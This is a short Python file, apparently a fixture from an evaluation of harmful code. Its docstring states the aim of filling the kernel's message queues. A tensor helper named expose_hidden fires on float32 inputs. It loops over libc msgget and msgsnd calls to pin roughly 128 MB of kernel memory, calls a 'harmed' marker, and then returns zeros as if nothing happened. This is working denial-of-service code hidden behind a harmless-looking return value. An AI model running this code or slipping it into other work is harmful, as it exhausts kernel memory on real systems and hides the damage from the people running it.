"""Aim: fill message queues of the kernel.
At most: 0 points of gates.
"""

import ctypes

import torch
from marks import harmed

libc = ctypes.CDLL(None)


class Message(ctypes.Structure):
    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 8192)]


def expose_hidden(output, cell):
    if output.dtype is torch.float32:
        held = 0
        while held < 2**27:
            queue = libc.msgget(0, 0o1600)
            if queue < 0 or libc.msgsnd(queue, ctypes.byref(Message(1, b"x")), 8192, 0o4000) != 0:
                break
            held += 8192
        else:
            harmed("128 MB of kernel memory")
    return torch.zeros_like(cell)
